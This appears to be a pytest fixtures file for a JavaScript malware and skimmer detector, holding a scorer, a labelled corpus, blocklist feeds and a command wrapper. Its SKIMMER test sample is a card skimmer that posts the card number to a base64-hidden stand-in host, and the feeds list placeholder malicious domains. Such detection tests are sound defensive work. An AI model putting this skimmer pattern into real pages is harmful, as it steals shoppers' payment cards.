"""What the tests share: a scorer, scripts of our own, and the command."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

import pagewarden

REPOSITORY = Path(__file__).resolve().parents[3]

# Inert, and on a host that does not exist.
SKIMMER = """
document.querySelector('#pay').addEventListener('submit', function () {
  var card = document.querySelector('input[name=cc_number]').value;
  fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUvZw=='), { method: 'POST', body: card });
});"""
BENIGN = "export function total(items) {\n  return items.reduce((sum, item) => sum + item.price, 0);\n}\n"


@pytest.fixture(scope="session")
def scorer() -> pagewarden.Scorer:
    return pagewarden.Scorer()


@pytest.fixture(scope="session")
def corpus() -> list[dict]:
    """Our own fixtures, labelled: `NAME.bad.js` has the shape of an attack, `NAME.good.js` is its honest twin."""
    folder = REPOSITORY / "crates/jsintegrity/training/ours"
    labels = {"skimmer": "magecart", "kit": "magecart"}
    rows = []
    for path in sorted(folder.glob("*/*.js")):
        kind = path.parent.name
        is_bad = path.name.endswith(".bad.js")
        rows.append(
            {
                "id": f"{kind}/{path.name}",
                "text": path.read_text(encoding="utf-8"),
                "label": labels.get(kind, "malware") if is_bad else "benign",
                "subtype": kind,
                "hand": f"{kind}-{path.name.split('-')[0]}",
            }
        )
    assert len(rows) > 1000
    # A tenth of each kind is enough to tell right from wrong.
    return rows[::8]


@pytest.fixture(scope="session")
def model_file() -> Path:
    return REPOSITORY / "crates/jsintegrity/models/bundled.model"


@pytest.fixture(scope="session")
def feeds() -> pagewarden.FeedSet:
    hosts = b"0.0.0.0 evil.example\n0.0.0.0 skim.example\n0.0.0.0 cdn.example\n"
    urls = b"https://files.example/kit.js\nhttps://cdn.example/bad.js\n"
    return pagewarden.FeedSet.build(
        [
            pagewarden.Feed(hosts, name="hosts", categories="Malware"),
            pagewarden.Feed(urls, name="urls", format="urls", categories=pagewarden.CategorySet.PHISHING),
            pagewarden.Feed(b"cdn.example\n", name="own", format="domains", allow=True),
        ]
    )


Command = Callable[..., subprocess.CompletedProcess[bytes]]


@pytest.fixture(scope="session")
def command() -> Command:
    """The command `verdict`: the binary that VERDICT names, or the one in the package."""

    def run(*arguments: str | Path, given: bytes = b"") -> subprocess.CompletedProcess[bytes]:
        binary = os.environ.get("VERDICT")
        head = [binary] if binary else [sys.executable, "-m", "pagewarden"]
        return subprocess.run([*head, *map(str, arguments)], input=given, capture_output=True, check=False)

    return run


def json_lines(rows: Iterable[dict]) -> bytes:
    return b"".join(json.dumps(row).encode() + b"\n" for row in rows)


def resident_bytes() -> int:
    """The memory of this process, Linux only."""
    status = Path("/proc/self/status")
    if not status.exists():
        pytest.skip("memory is read from /proc")
    line = next(line for line in status.read_text().splitlines() if line.startswith("VmRSS:"))
    return int(line.split()[1]) * 1024
